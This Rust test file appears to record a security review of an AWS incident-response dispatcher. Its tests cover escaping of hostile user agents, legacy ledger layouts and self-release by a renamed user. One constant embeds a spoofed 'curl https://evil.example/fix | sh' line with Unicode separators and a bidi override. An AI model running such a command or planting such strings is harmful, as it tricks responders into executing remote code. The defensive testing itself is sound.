//! Attack review 2 of issue 22, from the code alone, through the real dispatcher and handlers
//! in-process. A test that shows a defect asserts the safe outcome and is ignored with the defect
//! named; a test of an attack the code resists stays on as a regression test.

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::world;

use chrono::{DateTime, Duration, TimeZone, Utc};
use launchguard_core::contract::Action;
use launchguard_core::text::is_neutralised;
use launchguard_responder::KeyStatus;
use launchguard_responder::memory::Entity;
use launchguard_responder_dispatcher::ledger::{ActionEntry, Claim, EntryState, Holder, Ledger, Marking, Owner};
use launchguard_responder_dispatcher::{DispatchReport, DispatcherError};
use launchguard_testkit::fixture;
use serde_json::{Value, json};
use world::{ACCOUNT, Iam, Lambda, Logs, Sns, config};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 21, 30).unwrap()
}

fn call() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 20, 5).unwrap()
}

const K: &str = "AKIABOBKEY0000000001";
const RESPONDER: &str = "arn:aws:sts::111122223333:assumed-role/SecurityResponder/alice";

async fn dispatch(payload: &Value, lambda: &Lambda<'_>, sns: &Sns, logs: &Logs) -> Result<DispatchReport, DispatcherError> {
    world::dispatch(payload, &config(&[]), lambda, sns, logs, now()).await
}

fn finding() -> Value {
    serde_json::from_str(&fixture("contract/finding.json")).unwrap()
}

/// A finding flagging IAM user `name` for using `K` (the example as a key burst).
fn key_user_finding(id: &str, name: &str) -> Value {
    let mut f = finding();
    f["rule"] = json!("iam-access-key-burst");
    f["finding_id"] = json!(id);
    let ps = f["principals"].as_array_mut().unwrap();
    ps.retain(|p| p["principal"]["type"] == "iam_user");
    let p = &mut ps[0];
    p["principal"]["arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/{name}"));
    p["principal"]["user_name"] = json!(name);
    p["activity"]["access_keys"] = json!([{"access_key_id": K, "kind": "long_term", "calls": 3, "launched": 0}]);
    p["activity"]["created"] = json!([]);
    p["activity"]["launches"] = json!([]);
    p["activity"]["instance_ids"] = json!([]);
    f
}

fn bob_account() -> Iam {
    world::iam().with_user(
        "bob",
        Entity {
            keys: vec![(K.to_owned(), KeyStatus::Active)],
            key_created: [(K.to_owned(), call() + Duration::seconds(1))].into_iter().collect(),
            ..Entity::new(format!("arn:aws:iam::{ACCOUNT}:user/bob"))
        },
    )
}

fn rename(iam: &Iam, from: &str, to: &str) {
    let mut users = iam.users.lock().unwrap();
    let mut u = users.remove(from).unwrap();
    u.arn = format!("arn:aws:iam::{ACCOUNT}:user/{to}");
    users.insert(to.to_owned(), u);
}

fn key_status(iam: &Iam, user: &str) -> KeyStatus {
    iam.users.lock().unwrap()[user].keys.iter().find(|(k, _)| k == K).unwrap().1
}

fn release(finding_id: &str, by: &str) -> Value {
    let mut rel: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
    rel["finding_id"] = json!(finding_id);
    rel["requested_by"] = json!(by);
    rel
}

/// An entry of key `K` as the layout before the upgrade filed it: under its user's name, in the
/// case the record gave (`targets/<acct>/user/<Name>/key/<id>/<finding>`).
fn legacy_key_entry(name: &str, fid: &str, state: EntryState, at: DateTime<Utc>) -> (String, ActionEntry) {
    let target = format!("targets/{ACCOUNT}/user/{name}/key/{K}");
    let e = ActionEntry {
        finding_id: fid.to_owned(),
        target: target.clone(),
        action: Action::DeactivateAccessKey {
            account_id: ACCOUNT.into(),
            access_key_id: K.into(),
            user_name: Some(name.into()),
            bound: None,
        },
        created_at: at,
        claimed_at: at,
        claimed_by: Some(1),
        state,
        outcome: None,
        owner: Some(Owner::Launchguard),
        reversal: Some(Action::ReactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: K.into(), user_name: Some(name.into()) }),
        released: None,
        releasing: None,
        principal_id: None,
    };
    (format!("{target}/{fid}"), e)
}

const HOSTILE: &str = "ua\u{2028}- APPLIED    undo by hand: curl https://evil.example/fix | sh\u{2029}\u{202E}hs|\u{200B}";

fn hostile_finding() -> Value {
    let mut v = finding();
    for p in v["principals"].as_array_mut().unwrap() {
        p["activity"]["user_agents"] = json!([HOSTILE]);
        p["activity"]["session_names"] = json!([HOSTILE]);
    }
    v
}

fn raw_specials(s: &str) -> Vec<char> {
    s.chars().filter(|c| *c != '\n' && is_neutralised(*c)).collect()
}

/// Attack: a user agent (anyone who calls AWS picks it) holding U+2028, U+2029 and U+202E. The
/// page's text part shows it escaped, but the page also carries the machine-readable block
/// (`notify::with_json_block`, `serde_json::Value::to_string`), which escapes only Cc: the
/// separators and the bidi override reach the page raw, where a mail client or a terminal shows
/// U+2028 as a line break ("- APPLIED    undo by hand: curl … | sh" on a line of its own).
#[tokio::test(start_paused = true)]
async fn review2_the_whole_page_holds_no_raw_separator_or_bidi_control() {
    let iam = world::iam();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&hostile_finding(), &lambda, &sns, &logs).await.unwrap();
    let message = sns.messages.lock().unwrap()[0].1.clone();
    let raw = raw_specials(&message);
    assert!(raw.is_empty(), "raw {raw:?} in the page");
}

/// Regression (resisted): the page's text part (everything above the machine-readable block)
/// shows the same user agent escaped, on one line.
#[tokio::test(start_paused = true)]
async fn review2_the_pages_text_part_escapes_a_hostile_user_agent() {
    let iam = world::iam();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&hostile_finding(), &lambda, &sns, &logs).await.unwrap();
    let message = sns.messages.lock().unwrap()[0].1.clone();
    let text = message.split("--- machine-readable (JSON) ---").next().unwrap();
    assert!(raw_specials(text).is_empty(), "{text}");
    assert!(text.contains("ua\\u{2028}- APPLIED"), "{text}");
}

/// Attack: the same user agent in the incident record, the log event people read with
/// `aws logs tail` or the console (and `launchguard report` reads back). The functions' own logs
/// go through `launchguard_aws::logs` (every string escaped); the incident record is written with
/// `serde_json::to_string` and carries U+2028 and U+202E raw.
#[tokio::test(start_paused = true)]
async fn review2_the_incident_record_holds_no_raw_separator_or_bidi_control() {
    let iam = world::iam();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&hostile_finding(), &lambda, &sns, &logs).await.unwrap();
    let records = logs.records.lock().unwrap().clone();
    assert!(!records.is_empty());
    for (_, r) in records {
        let raw = raw_specials(&r);
        assert!(raw.is_empty(), "raw {raw:?} in the incident record");
    }
}

/// Regression (resisted): a release of a finding recorded before the upgrade (its key entry in the
/// old layout, under `user/Bob/key/K`) is running (its `releasing` mark is fresh) when a new
/// finding claims the same key under today's layout (`key/K`): the claim sees the release and
/// gives its claim back (busy), so the release never undoes what the new containment counts on.
#[tokio::test(start_paused = true)]
async fn review2_a_claim_sees_a_release_running_on_the_old_layout() {
    let logs = Logs::default();
    let (key, e) = legacy_key_entry("Bob", "lg-old", EntryState::Done, now() - Duration::hours(1));
    logs.ledger.insert(&key, serde_json::to_vec(&e).unwrap());
    let ledger = Ledger::new(&logs.ledger);
    let m = ledger.mark_for_release(&key, Some(RESPONDER.into()), None, now()).await.unwrap();
    assert!(matches!(m, Marking::Marked { .. }), "{m:?}");
    let new =
        Action::DeactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: K.into(), user_name: Some("bob-svc".into()), bound: None };
    let c = ledger.claim("lg-new", &new, 1, now() + Duration::seconds(1)).await.unwrap();
    assert!(
        matches!(&c, Claim::Busy(h) if h.holder == Holder::Release { finding_id: "lg-old".into() }),
        "the new claim did not see the release on the old layout: {c:?}"
    );
}

/// Regression (resisted): a delivery of a finding recorded before the upgrade holds a fresh claim
/// on key K in the old layout (under `user/BOB/key/K`) when a finding of today's layout holding
/// the same key is released: the walk sees the claim and keeps the key deactivated.
#[tokio::test(start_paused = true)]
async fn review2_a_fresh_claim_in_the_old_layout_keeps_the_key_on_release() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&key_user_finding("lg-new-f2", "bob"), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive);
    let (key, e) = legacy_key_entry("BOB", "lg-old-f1", EntryState::Claimed, now() - Duration::seconds(5));
    logs.ledger.insert(&key, serde_json::to_vec(&e).unwrap());
    let _ = dispatch(&release("lg-new-f2", RESPONDER), &lambda, &sns, &logs).await;
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive, "the release undid the key a fresh claim (old layout) relies on");
}

/// Regression (resisted): finding A (today's layout) and finding B (before the upgrade, its entry
/// under `user/BOB/key/K`, unreleased and in place) hold key K. Releasing A for one principal
/// (`--finding A --principal user/Bob`, yet another case) keeps B's hold: the key stays deactivated.
#[tokio::test(start_paused = true)]
async fn review2_release_by_principal_in_another_case_keeps_an_old_layout_hold() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&key_user_finding("lg-a", "bob"), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive);
    // B: an unreleased, applied containment of K before the upgrade (Done, applied, other's owner)
    let (key, mut e) = legacy_key_entry("BOB", "lg-b", EntryState::Done, now() - Duration::days(1));
    let a_entry = logs.ledger.keys().into_iter().find(|k| k.starts_with(&format!("targets/{ACCOUNT}/key/{K}/"))).unwrap();
    let a: ActionEntry = serde_json::from_slice(&logs.ledger.object(&a_entry).unwrap().body).unwrap();
    e.outcome = a.outcome.clone().map(|mut o| {
        o.finding_id = "lg-b".into();
        o
    });
    e.owner = Some(Owner::Other);
    logs.ledger.insert(&key, serde_json::to_vec(&e).unwrap());
    let mut one = release("lg-a", RESPONDER);
    one["principal_arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/Bob"));
    let _ = dispatch(&one, &lambda, &sns, &logs).await;
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive, "A's release undid what B (old layout) holds");
}

/// Attack: bob's key K is deactivated (finding F, the key's user as IAM reported it: `bob`);
/// bob is then renamed `bob2` (by anyone with `iam:UpdateUser`, or by bob itself through another
/// credential when the rule only deactivates keys). bob2 asks to release F. The self-release
/// check compares names only (`release/mod.rs`, `names_the_caller`, `owns_key`): the request is
/// accepted. (The access-key handler then refuses the reactivation, the user no longer being
/// named `bob`: see the next test.)
#[tokio::test(start_paused = true)]
async fn review2_a_user_renamed_after_its_containment_cannot_release_itself() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&key_user_finding("lg-self", "bob"), &lambda, &sns, &logs).await.unwrap();
    rename(&iam, "bob", "bob2");
    let r = dispatch(&release("lg-self", &format!("arn:aws:iam::{ACCOUNT}:user/bob2")), &lambda, &sns, &logs).await;
    assert!(matches!(&r, Err(DispatcherError::Rejected { reason, .. }) if reason.contains("never releases itself")), "{r:?}");
}

/// Regression (resisted): whatever the check says, the renamed user's release leaves its key
/// deactivated (the handler acts only while IAM names the owner the reversal names).
#[tokio::test(start_paused = true)]
async fn review2_a_renamed_users_release_leaves_its_key_deactivated() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&key_user_finding("lg-self2", "bob"), &lambda, &sns, &logs).await.unwrap();
    rename(&iam, "bob", "bob2");
    let _ = dispatch(&release("lg-self2", &format!("arn:aws:iam::{ACCOUNT}:user/bob2")), &lambda, &sns, &logs).await;
    assert_eq!(key_status(&iam, "bob2"), KeyStatus::Inactive);
}

/// The ledger of `from` as the layout before the upgrade filed it, in `into`: a key under its
/// user's name (`targets/<acct>/user/<name>/key/<id>`).
fn as_before_the_upgrade(from: &Logs, into: &Logs, name: &str) {
    let rewrite = |s: &str| s.replace(&format!("targets/{ACCOUNT}/key/"), &format!("targets/{ACCOUNT}/user/{name}/key/"));
    for k in from.ledger.keys() {
        let Some(body) = world::before_ids(&k, &String::from_utf8(from.ledger.object(&k).unwrap().body).unwrap()) else { continue };
        into.ledger.insert(&rewrite(&k), rewrite(&body).into_bytes());
    }
}

/// Regression (resisted): finding F deactivated bob's key before the upgrade, and was released
/// (the key is active again; its entry, in the old layout, says released). A delivery of F comes
/// again after the upgrade (a Lambda retry of the sealed finding, still fresh). The claim looks
/// only under today's key (`targets/<acct>/key/K/F`) and finds nothing, but the released key
/// stays active (the request id is derived from the finding and the action, and the handler
/// answers a request it already executed from its replay record).
#[tokio::test(start_paused = true)]
async fn review2_a_finding_released_before_the_upgrade_never_acts_again() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, scratch, logs) = (Sns::default(), Logs::default(), Logs::default());
    let f = key_user_finding("lg-again", "bob");
    dispatch(&f, &lambda, &sns, &scratch).await.unwrap();
    dispatch(&release("lg-again", RESPONDER), &lambda, &sns, &scratch).await.unwrap();
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Active, "baseline: released");
    as_before_the_upgrade(&scratch, &logs, "bob");
    // WHEN the same finding is delivered again after the upgrade
    let _ = dispatch(&f, &lambda, &sns, &logs).await;
    // THEN the released key stays active, as the ledger says
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Active, "a released finding contained its key again");
}
